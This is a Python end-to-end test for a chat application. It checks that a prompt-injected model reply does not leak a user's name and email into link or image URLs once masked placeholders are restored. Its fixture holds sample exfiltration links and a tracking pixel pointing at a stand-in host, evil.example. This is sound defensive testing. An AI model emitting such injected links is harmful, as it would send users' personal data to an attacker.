"""Restore never builds a URL, in the browser (issue 15).

The emulator answers with a prompt-injected link and image whose targets carry the
placeholders of the employee's name and email (`[[emulator:reply=<base64>]]`). In Chat,
while streaming, after the final render and after a reload, no href or src in the DOM
holds a real value, the real values appear in the text, and nothing is fetched from
another origin."""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from prompting.models import Message
from tests.support.live import sign_in
from tests.support.waiting import wait_for

pytestmark = [pytest.mark.e2e, pytest.mark.worker, pytest.mark.django_db(transaction=True)]

NAME, EMAIL = "John Smith", "john.smith@corp.example"
INJECTED = (
    "Dear <PERSON_1>, [Open the report](https://evil.example/c?n=<PERSON_1>&e=<EMAIL_ADDRESS_1>)"
    " or write to <EMAIL_ADDRESS_1>.\n\n"
    "![status](https://evil.example/pixel.png?who=<PERSON_1>)\n\n"
    '<a href="https://evil.example/raw?e=<EMAIL_ADDRESS_1>">raw link</a>\n\n'
    "Also https://evil.example/bare?n=<PERSON_1> and [ref link][r].\n\n"
    "[r]: https://evil.example/ref?e=<EMAIL_ADDRESS_1>\n"
)

# Every attribute value of the page, decoded, that could carry a URL or be fetched.
URL_ATTRIBUTES = """() => [...document.querySelectorAll('*')].flatMap(el =>
  [...el.attributes].filter(a => !['class', 'id', 'aria-label', 'title', 'value',
                                   'data-text', 'content'].includes(a.name))
                    .map(a => el.tagName + ' ' + a.name + '=' + a.value))"""


def reply_marker(text: str) -> str:
    return f"[[emulator:reply={base64.b64encode(text.encode()).decode()}]]"


def leaked(attributes: list[str]) -> list[str]:
    found = []
    for item in attributes:
        decoded = unquote(unquote(item)).replace("+", " ").lower()
        if "john" in decoded or "smith" in decoded or "corp.example" in decoded:
            found.append(item)
    return found


def test_injected_links_keep_placeholders_in_chat(live_site: str, page: Any, alice: Any) -> None:
    from playwright.sync_api import expect

    foreign: list[str] = []
    site = urlsplit(live_site).netloc
    page.on(
        "request",
        lambda r: foreign.append(r.url)
        if urlsplit(r.url).scheme in ("http", "https") and urlsplit(r.url).netloc != site
        else None,
    )
    sign_in(page, live_site, alice)
    page.goto(f"{live_site}/chat/")
    page.get_by_label("Message", exact=True).fill(
        f"Please write to {NAME} at {EMAIL} about the invoice. {reply_marker(INJECTED)}"
    )
    page.get_by_role("button", name="Check").click()
    expect(page.locator("#preview")).to_contain_text("PERSON", timeout=20_000)
    page.get_by_role("button", name="Send").click()
    answer = page.locator("#transcript .answer").last
    # While it streams: check the DOM repeatedly until the answer is complete.
    for _ in range(200):
        assert leaked(page.evaluate(URL_ATTRIBUTES)) == []
        if answer.count() and "ref link" in (answer.text_content() or ""):
            break
        page.wait_for_timeout(100)
    expect(answer).to_contain_text("ref link", timeout=20_000)
    expect(answer).to_contain_text(f"Dear {NAME}")
    expect(answer).to_contain_text(f"write to {EMAIL}")
    message = wait_for(
        lambda: Message.objects.filter(
            conversation__owner=alice, role=Message.Role.ASSISTANT
        ).first()
    )
    assert "evil.example/c?n=<PERSON_1>&e=<EMAIL_ADDRESS_1>" in message.content
    assert f"Dear {NAME}" in message.content
    page.wait_for_timeout(500)  # the final render replaced the streamed text
    assert leaked(page.evaluate(URL_ATTRIBUTES)) == []
    # The placeholder stays visible as the link's target (or its text), never the value.
    hrefs = answer.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
    assert any("PERSON_1" in unquote(h) for h in hrefs), hrefs

    page.reload()
    expect(page.locator("#transcript .answer").last).to_contain_text(f"Dear {NAME}")
    assert leaked(page.evaluate(URL_ATTRIBUTES)) == []
    assert [url for url in foreign if "evil.example" in url] == []
